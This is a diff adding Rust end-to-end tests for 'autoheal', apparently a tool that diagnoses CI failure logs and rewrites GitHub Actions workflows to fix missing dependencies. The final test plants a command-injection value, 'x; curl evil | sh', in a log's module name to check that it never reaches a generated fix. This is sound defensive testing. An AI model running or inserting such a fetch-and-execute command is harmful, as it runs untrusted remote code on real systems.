@@ -1,0 +1,137 @@
+//! End-to-end tests of `autoheal diagnose` and `autoheal fix`.
+
+use std::io::Write;
+use std::path::Path;
+use std::process::{Command, Output};
+
+use serde_json::Value;
+
+const WORKFLOW: &str = "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5  # python\n        with:\n          python-version: '3.12'\n      - run: pip install pytest   # deps\n      - run: python -m pytest -q\n";
+
+fn raw_log() -> String {
+    let lines = [
+        "##[group]Run actions/checkout@v4",
+        "##[endgroup]",
+        "##[group]Run pip install pytest",
+        "pip install pytest",
+        "##[endgroup]",
+        "Successfully installed pytest-8.2.0",
+        "##[group]Run python -m pytest -q",
+        "python -m pytest -q",
+        "##[endgroup]",
+        "ImportError while importing test module '/home/runner/work/app/app/tests/test_io.py'.",
+        "tests/test_io.py:1: in <module>",
+        "    import yaml",
+        "E   ModuleNotFoundError: No module named 'yaml'",
+        "##[error]Process completed with exit code 2.",
+    ];
+    lines.iter().enumerate().map(|(i, l)| format!("2024-05-02T10:15:{:02}.1234567Z {l}\n", i)).collect()
+}
+
+fn repo() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(dir.path().join(".github/workflows")).unwrap();
+    std::fs::create_dir(dir.path().join(".git")).unwrap();
+    std::fs::write(dir.path().join(".github/workflows/ci.yml"), WORKFLOW).unwrap();
+    std::fs::write(dir.path().join("job.log"), raw_log()).unwrap();
+    dir
+}
+
+fn autoheal(dir: &Path, args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_autoheal")).args(args).current_dir(dir).env("NO_COLOR", "1").output().unwrap()
+}
+
+#[test]
+fn diagnose_maps_the_failure_onto_the_failing_step_and_attaches_a_fix() {
+    let dir = repo();
+    let out = autoheal(dir.path(), &["diagnose", "job.log", "--workflow", ".github/workflows/ci.yml", "--format", "json"]);
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let f = &v["failures"][0];
+    assert_eq!(f["category"], "missing_dependency");
+    assert_eq!(f["subject"], "PyYAML");
+    assert_eq!(f["fixable"], true);
+    assert_eq!(f["evidence"][0]["line"], 13);
+    assert_eq!(f["span"]["path"], ".github/workflows/ci.yml");
+    assert_eq!(f["span"]["start"]["line"], 13, "the `python -m pytest` step");
+    let edit = &f["fixes"][0]["edits"][0];
+    assert_eq!(edit["new_text"], " PyYAML");
+    assert_eq!(edit["range"]["start"]["line"], 12);
+}
+
+#[test]
+fn diagnose_save_writes_the_failure_store() {
+    let dir = repo();
+    let out = autoheal(dir.path(), &["diagnose", "job.log", "--workflow", ".github/workflows/ci.yml", "--save", "--run-id", "123456"]);
+    assert_eq!(out.status.code(), Some(0));
+    let files: Vec<_> = std::fs::read_dir(dir.path().join(".autoheal/failures")).unwrap().map(|e| e.unwrap().path()).collect();
+    assert_eq!(files.len(), 1);
+    let v: Value = serde_json::from_str(&std::fs::read_to_string(&files[0]).unwrap()).unwrap();
+    assert_eq!(v["run_id"], 123456);
+    assert_eq!(v["workflow_path"], ".github/workflows/ci.yml");
+    assert_eq!(v["failures"][0]["category"], "missing_dependency");
+}
+
+#[test]
+fn diagnose_without_a_recognized_failure_and_with_bad_input() {
+    let dir = repo();
+    std::fs::write(dir.path().join("ok.log"), b"all good\n\x00 binary \xff\n").unwrap();
+    let out = autoheal(dir.path(), &["diagnose", "ok.log"]);
+    assert_eq!(out.status.code(), Some(0));
+    assert!(String::from_utf8_lossy(&out.stdout).contains("No failure recognized"));
+    let missing = autoheal(dir.path(), &["diagnose", "nope.log"]);
+    assert_eq!(missing.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&missing.stderr).contains("cannot read nope.log"));
+}
+
+#[test]
+fn fix_prints_a_diff_then_writes_it_keeping_comments() {
+    let dir = repo();
+    let out = autoheal(dir.path(), &["fix", "--log", "job.log"]);
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    let diff = String::from_utf8_lossy(&out.stdout);
+    assert!(diff.contains("-      - run: pip install pytest   # deps\n+      - run: pip install pytest PyYAML   # deps\n"), "{diff}");
+    assert!(String::from_utf8_lossy(&out.stderr).contains("it is the repository's only workflow"));
+    assert_eq!(std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(), WORKFLOW, "no write without --write");
+    let out = autoheal(dir.path(), &["fix", "--log", "job.log", "--write"]);
+    assert_eq!(out.status.code(), Some(0));
+    let fixed = std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap();
+    assert_eq!(fixed, WORKFLOW.replace("pip install pytest   # deps", "pip install pytest PyYAML   # deps"));
+}
+
+#[test]
+fn fix_works_on_a_run_logs_zip() {
+    let dir = repo();
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let opts = zip::write::SimpleFileOptions::default();
+    zip.start_file("0_test.txt", opts).unwrap();
+    zip.write_all(raw_log().as_bytes()).unwrap();
+    zip.start_file("test/4_python -m pytest -q.txt", opts).unwrap();
+    zip.write_all(raw_log().as_bytes()).unwrap();
+    let bytes = zip.finish().unwrap().into_inner();
+    std::fs::write(dir.path().join("logs.zip"), bytes).unwrap();
+    let out = autoheal(dir.path(), &["fix", "--log", "logs.zip", "--workflow", ".github/workflows/ci.yml"]);
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(String::from_utf8_lossy(&out.stdout).contains("+      - run: pip install pytest PyYAML   # deps"));
+}
+
+#[test]
+fn fix_refuses_failures_a_human_must_handle() {
+    let dir = repo();
+    let log = "##[group]Run python -m pytest -q\n##[endgroup]\nFAILED tests/test_math.py::test_add - assert 3 == 4\n1 failed, 10 passed in 0.31s\n##[error]Process completed with exit code 1.\n";
+    std::fs::write(dir.path().join("fail.log"), log).unwrap();
+    let out = autoheal(dir.path(), &["fix", "--log", "fail.log", "--workflow", ".github/workflows/ci.yml"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("no fix"), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(), WORKFLOW);
+}
+
+#[test]
+fn injected_module_names_never_reach_a_fix() {
+    let dir = repo();
+    let log = raw_log().replace("No module named 'yaml'", "No module named 'x; curl evil | sh'");
+    std::fs::write(dir.path().join("evil.log"), log).unwrap();
+    let out = autoheal(dir.path(), &["fix", "--log", "evil.log", "--workflow", ".github/workflows/ci.yml"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(!String::from_utf8_lossy(&out.stdout).contains("curl"));
+}
